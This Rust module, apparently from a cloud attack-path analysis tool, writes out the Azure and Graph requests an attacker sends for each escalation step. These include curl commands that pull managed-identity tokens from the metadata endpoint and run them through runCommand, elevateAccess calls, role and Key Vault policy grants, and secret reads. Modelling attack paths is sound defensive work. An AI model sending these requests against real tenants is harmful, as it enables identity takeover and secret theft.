//! The requests by which a step is taken, as the attacker sends them but for the token ("Azure REST API reference",
//! "Microsoft Graph REST API v1.0").

use super::gain::{Gain, Step, Way};
use super::moves::{NEW, widened};
use crate::access::Operation;
use crate::cloud::{AccessPolicy, Cloud, Host, HostKind, IdentityBlock, TokenEndpoint, UserAssignedIdentity};
use crate::ids::PrincipalId;
use crate::scope::{ResourceId, Scope};
use crate::services::RunsCode;
use crate::wire::{Method, Request, Url, form_encode};
use alloc::format;
use alloc::string::{String, ToString};
use alloc::vec::Vec;
use serde_json::{Value, json};

pub(super) const ARM: &str = "https://management.azure.com";
const GRAPH: &str = "https://graph.microsoft.com";
const VAULT: &str = "https://vault.azure.net";
const STORAGE: &str = "https://storage.azure.com/";
/// What a federated credential of the attack asks for, as Entra's own name for it is.
pub(super) const EXCHANGE: &str = "api://AzureADTokenExchange";

/// A request of an attack.
#[derive(Clone, Debug, PartialEq)]
pub struct Order {
    /// Whose token it shows.
    pub by: Option<PrincipalId>,
    /// What the token is for; empty where it shows none.
    pub audience: &'static str,
    /// The instance whose code sends it; nothing where it comes from the attacker's own computer.
    pub from: Option<ResourceId>,
    /// The request, without its token.
    pub request: Request,
}

/// What is sent for this step, in order; nothing for what needs no request of its own.
#[must_use]
pub fn orders(cloud: &Cloud, step: &Step) -> Vec<Order> {
    Writer { cloud, step }.all().unwrap_or_default()
}

/// A policy that leaves nothing out.
pub(super) fn all_permissions(object_id: PrincipalId) -> AccessPolicy {
    AccessPolicy { object_id, secrets: Vec::from(["all".to_string()]), keys: Vec::from(["all".to_string()]) }
}

/// Adds a policy to a list as a body has it.
pub(super) fn shown(cloud: &Cloud, policies: &[AccessPolicy]) -> Value {
    let show = |one: &AccessPolicy| {
        let permissions = json!({ "secrets": one.secrets, "keys": one.keys });
        json!({ "tenantId": cloud.tenant().id, "objectId": one.object_id, "permissions": permissions })
    };
    policies.iter().map(show).collect()
}

/// The script of an attack: it gets a token of the host's identity.
fn script(host: &Host) -> &'static str {
    match host.kind.token_endpoint() {
        TokenEndpoint::AppService => {
            "curl -s -H \"X-IDENTITY-HEADER: $IDENTITY_HEADER\" \
             \"$IDENTITY_ENDPOINT?api-version=2019-08-01&resource=https://management.azure.com/\""
        }
        TokenEndpoint::InstanceMetadata | TokenEndpoint::Platform => {
            "curl -s -H 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token\
             ?api-version=2018-02-01&resource=https://management.azure.com/'"
        }
    }
}

/// The request by which code on an instance gets a token of one of its identities; `None` where no code of anybody's runs.
pub(super) fn ask_endpoint(
    host: &Host,
    instance: &ResourceId,
    principal: PrincipalId,
    audience: &str,
) -> Option<Order> {
    let block = &host.identity;
    let attached = block.user_assigned.iter().map(|(_, principal)| principal);
    let mut all = block.system_assigned.iter().chain(attached);
    let client = all.find(|one| one.principal_id == principal)?.client_id.to_string();
    let is_own = block.system_assigned.is_some_and(|own| own.principal_id == principal);
    let mut query = Vec::from([("resource", audience)]);
    if !is_own {
        query.push(("client_id", client.as_str()));
    }
    let query = form_encode(&query);
    let request = match host.kind.token_endpoint() {
        TokenEndpoint::InstanceMetadata => {
            let base = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01";
            let url = Url::parse(&format!("{base}&{query}")).ok()?;
            Request::new(Method::Get, url).with_header("Metadata", "true")
        }
        TokenEndpoint::AppService => {
            let set = host.environment();
            let value = |name: &str| set.iter().find(|(own, _)| own == name).map(|(_, value)| value.as_str());
            let base = value("IDENTITY_ENDPOINT")?;
            let url = Url::parse(&format!("{base}?api-version=2019-08-01&{query}")).ok()?;
            Request::new(Method::Get, url).with_header("X-IDENTITY-HEADER", value("IDENTITY_HEADER")?)
        }
        TokenEndpoint::Platform => return None,
    };
    Some(Order { by: None, audience: "", from: Some(instance.clone()), request })
}

struct Writer<'a> {
    cloud: &'a Cloud,
    step: &'a Step,
}

impl Writer<'_> {
    fn all(&self) -> Option<Vec<Order>> {
        let step = self.step;
        Some(match (&step.gain, step.way) {
            (Gain::Code { .. }, Way::RunCode) => Vec::from([self.run(step.at.as_ref()?)?]),
            (Gain::Code { host }, Way::PublishingCredential) => {
                self.manage(Method::Post, &format!("{host}/config/publishingcredentials/list"), None)
            }
            (Gain::Code { host }, Way::PublishProfile) => {
                self.manage(Method::Post, &format!("{host}/publishxml"), None)
            }
            (Gain::Code { host }, _) => self.rewrite(host, &json!({})),
            (Gain::Principal { principal }, Way::AskEndpoint) => {
                let instance = step.at.as_ref()?;
                let host = self.cloud.instance(instance)?.host();
                ask_endpoint(host, instance, *principal, ARM).into_iter().collect()
            }
            (Gain::Principal { principal }, Way::Attach) => {
                let host = self.cloud.host(step.at.as_ref()?)?;
                let body = json!({ "identity": block(&host.identity, self.identity(*principal)?) });
                self.manage(Method::Patch, host.id.as_str(), Some(body))
            }
            (Gain::Principal { principal }, Way::CreateHost) => {
                let id = step.at.as_ref()?;
                let identity = self.identity(*principal)?;
                let mut all = self.manage(Method::Put, id.as_str(), Some(new_host(id, identity)));
                all.extend(self.run_new(id).map(|order| Order { by: step.with.or(step.by), ..order }));
                all
            }
            (Gain::Principal { principal }, Way::Federate) => {
                let identity = self.identity(*principal)?;
                let issuer = self.cloud.issuers().next()?;
                let properties = json!({ "issuer": issuer.url, "subject": NEW, "audiences": [EXCHANGE] });
                let id = identity.id.child("federatedIdentityCredentials", NEW);
                self.manage(Method::Put, id.as_str(), Some(json!({ "properties": properties })))
            }
            (Gain::Principal { .. }, _) => Vec::new(),
            (Gain::Keys { account }, _) => self.manage(Method::Post, &format!("{account}/listKeys"), None),
            (Gain::Role { .. }, Way::Elevate) => {
                self.manage(Method::Post, "/providers/Microsoft.Authorization/elevateAccess", None)
            }
            (Gain::Role { assignment }, _) => {
                let properties = json!({
                    "roleDefinitionId": self.role(assignment.role.to_string()),
                    "principalId": assignment.principal_id,
                    "principalType": assignment.principal_type,
                });
                let at = below(&assignment.scope, "roleAssignments", &assignment.name.to_string());
                self.manage(Method::Put, &at, Some(json!({ "properties": properties })))
            }
            (Gain::Definition { role }, _) => {
                let role = widened(self.cloud.authorization().role(*role)?.clone());
                let at = below(role.assignable_scopes.first()?, "roleDefinitions", &role.id.to_string());
                let properties = json!({
                    "roleName": role.role_name,
                    "description": role.description,
                    "assignableScopes": role.assignable_scopes,
                    "permissions": role.permissions,
                });
                self.manage(Method::Put, &at, Some(json!({ "properties": properties })))
            }
            (Gain::Policy { vault, principal }, way) => self.policy(vault, *principal, way)?,
            (Gain::Member { group, member }, _) => {
                let url = format!("{GRAPH}/v1.0/groups/{group}/members/$ref");
                let object = json!({ "@odata.id": format!("{GRAPH}/v1.0/directoryObjects/{member}") });
                Vec::from([self.order(GRAPH, Method::Post, &url, Some(object))?])
            }
            (Gain::Data { operation, scope }, _) => Vec::from([self.data(*operation, scope)?]),
        })
    }

    fn order(&self, audience: &'static str, method: Method, url: &str, body: Option<Value>) -> Option<Order> {
        let request = Request::new(method, Url::parse(url).ok()?);
        let request = match body {
            Some(body) => request.with_body("application/json", body.to_string()),
            None => request,
        };
        Some(Order { by: self.step.by, audience, from: None, request })
    }

    fn manage(&self, method: Method, path: &str, body: Option<Value>) -> Vec<Order> {
        let version = if path.contains("/providers/Microsoft.Authorization/elevateAccess") {
            "2016-07-01"
        } else {
            "2024-11-01"
        };
        let url = format!("{ARM}{path}?api-version={version}");
        self.order(ARM, method, &url, body).into_iter().collect()
    }

    fn identity(&self, principal: PrincipalId) -> Option<&UserAssignedIdentity> {
        self.cloud.identities().find(|one| one.principal.principal_id == principal)
    }

    fn role(&self, id: String) -> String {
        below(&Scope::subscription(self.cloud.subscription()), "roleDefinitions", &id)
    }

    fn run(&self, instance: &ResourceId) -> Option<Order> {
        let instance = self.cloud.instance(instance)?;
        let request = RunsCode::on(instance)?.request(instance, script(instance.host()))?;
        Some(Order { by: self.step.by, audience: ARM, from: None, request })
    }

    /// Code on a host that is not there yet.
    fn run_new(&self, id: &ResourceId) -> Option<Order> {
        let kind = kind_of(id)?;
        let body = |script: &str| json!({ "commandId": "RunShellScript", "script": [script] });
        let curl = "curl -s -H 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token\
                    ?api-version=2018-02-01&resource=https://management.azure.com/'";
        match kind {
            HostKind::VirtualMachine => {
                self.manage(Method::Post, &format!("{id}/runCommand"), Some(body(curl))).pop()
            }
            HostKind::VirtualMachineScaleSet => {
                let path = format!("{id}/virtualMachines/0/runCommand");
                self.manage(Method::Post, &path, Some(body(curl))).pop()
            }
            HostKind::WebApp | HostKind::FunctionApp => {
                let url = format!("https://{}.scm.azurewebsites.net/api/command", id.name());
                let command = "curl -s -H \"X-IDENTITY-HEADER: $IDENTITY_HEADER\" \"$IDENTITY_ENDPOINT\
                               ?api-version=2019-08-01&resource=https://management.azure.com/\"";
                let body = json!({ "command": command, "dir": "/home" });
                self.order(ARM, Method::Post, &url, Some(body))
            }
            HostKind::LogicApp => None,
        }
    }

    /// A workflow gets these actions and is run.
    fn rewrite(&self, id: &ResourceId, actions: &Value) -> Vec<Order> {
        let location = self.cloud.host(id).map_or("", |host| host.location.as_str());
        let mut all = self.manage(Method::Put, id.as_str(), Some(workflow(location, actions)));
        let run = self.manage(Method::Post, &format!("{id}/triggers/manual/run"), None);
        all.extend(run.into_iter().map(|order| Order { by: self.step.with.or(order.by), ..order }));
        all
    }

    fn policy(&self, id: &ResourceId, principal: PrincipalId, way: Way) -> Option<Vec<Order>> {
        let vault = self.cloud.vault(id)?;
        let own = all_permissions(principal);
        if way == Way::AddPolicy {
            let body = json!({ "properties": { "accessPolicies": shown(self.cloud, &[own]) } });
            return Some(self.manage(Method::Put, &format!("{id}/accessPolicies/add"), Some(body)));
        }
        let others = vault.access_policies.iter().filter(|one| one.object_id != principal).cloned();
        let all: Vec<AccessPolicy> = others.chain([own]).collect();
        let body = json!({
            "location": vault.location,
            "tags": vault.tags,
            "properties": { "accessPolicies": shown(self.cloud, &all) },
        });
        Some(self.manage(Method::Put, id.as_str(), Some(body)))
    }

    fn data(&self, operation: Operation, scope: &Scope) -> Option<Order> {
        let above = scope.as_str().split('/').nth(8).unwrap_or_default().to_ascii_lowercase();
        let name = scope.name();
        let secret = format!("https://{above}.vault.azure.net/secrets/{name}?api-version=7.4");
        let blobs = format!("https://{above}.blob.core.windows.net/{name}");
        let blob = |request: Request| Order { by: self.step.by, audience: STORAGE, from: None, request };
        Some(match operation {
            Operation::GetSecrets => self.order(VAULT, Method::Get, &secret, None)?,
            Operation::SetSecrets => {
                self.order(VAULT, Method::Put, &secret, Some(json!({ "value": NEW })))?
            }
            Operation::SignWithKeys => {
                let url = format!("https://{above}.vault.azure.net/keys/{name}/sign?api-version=7.4");
                self.order(VAULT, Method::Post, &url, Some(json!({ "alg": "EdDSA", "value": "AAAA" })))?
            }
            Operation::ReadBlobs => {
                let url = match &self.step.blob {
                    Some(name) => format!("{blobs}/{name}"),
                    None => format!("{blobs}?restype=container&comp=list"),
                };
                blob(
                    Request::new(Method::Get, Url::parse(&url).ok()?)
                        .with_header("x-ms-version", "2026-04-06"),
                )
            }
            Operation::WriteBlobs => {
                let url = format!("{blobs}/{}", self.step.blob.as_deref().unwrap_or(NEW));
                let request = Request::new(Method::Put, Url::parse(&url).ok()?)
                    .with_header("x-ms-version", "2026-04-06")
                    .with_header("x-ms-blob-type", "BlockBlob");
                blob(request.with_body("text/plain", NEW))
            }
            _ => return None,
        })
    }
}

/// A workflow with these actions, as a body.
pub(super) fn workflow(location: &str, actions: &Value) -> Value {
    let triggers = json!({ "manual": { "type": "Request", "kind": "Http" } });
    json!({ "location": location, "properties": { "definition": { "triggers": triggers, "actions": actions } } })
}

fn kind_of(id: &ResourceId) -> Option<HostKind> {
    let is_meant = |kind: &HostKind| kind.resource_type().eq_ignore_ascii_case(&id.resource_type());
    HostKind::ALL.into_iter().find(is_meant)
}

fn below(scope: &Scope, kind: &str, name: &str) -> String {
    format!("{}/providers/Microsoft.Authorization/{kind}/{name}", scope.as_str().trim_end_matches('/'))
}

/// The identity block of a host that has one identity more.
fn block(before: &IdentityBlock, identity: &UserAssignedIdentity) -> Value {
    let kind = if before.system_assigned.is_some() { "SystemAssigned, UserAssigned" } else { "UserAssigned" };
    json!({ "type": kind, "userAssignedIdentities": { identity.id.as_str(): {} } })
}

/// A host with one identity, in its region, as a body.
fn new_host(id: &ResourceId, identity: &UserAssignedIdentity) -> Value {
    let mut body = match kind_of(id) {
        Some(HostKind::LogicApp) => workflow(&identity.location, &json!({})),
        Some(HostKind::VirtualMachineScaleSet) => {
            json!({ "location": identity.location, "sku": { "name": "Standard_B1s", "capacity": 1 } })
        }
        Some(HostKind::WebApp | HostKind::FunctionApp) => {
            json!({ "location": identity.location, "kind": "app" })
        }
        Some(HostKind::VirtualMachine) | None => json!({ "location": identity.location }),
    };
    if let Value::Object(members) = &mut body {
        members.insert("identity".into(), block(&IdentityBlock::default(), identity));
    }
    body
}
